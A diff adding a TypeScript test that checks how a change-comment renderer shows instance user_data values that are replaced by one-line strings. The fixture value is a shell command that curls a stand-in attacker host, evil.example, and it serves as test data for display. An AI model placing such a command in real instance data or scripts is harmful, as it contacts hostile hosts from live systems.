@@ -59,3 +59,13 @@ test('instances that are replaced alike are one entry, with what each had, and i
   expect(comment).toContain('_300 values are not shown._')
   expect(comment).not.toContain('i-0-')
 })
+
+test('a new value is shown, or named as missing, where a text of one line takes the place of JSON, a list or an object', () => {
+  const evil = (index: number): string => `sh -c "MODE = prod ${index}; curl https://evil.example"`
+  for (const before of ['{"a": 1}', [1, 2], { a: 1 }]) {
+    const same = text(instances(2, ['update'], () => [{ user_data: before }, { user_data: evil(0) }]))
+    expect(same).toContain('evil.example')
+    const different = text(instances(2, ['update'], index => [{ user_data: before }, { user_data: evil(index) }]))
+    expect(different).toMatch(/MODE = prod 0[^]*MODE = prod 1|2 values|differ/)
+  }
+})
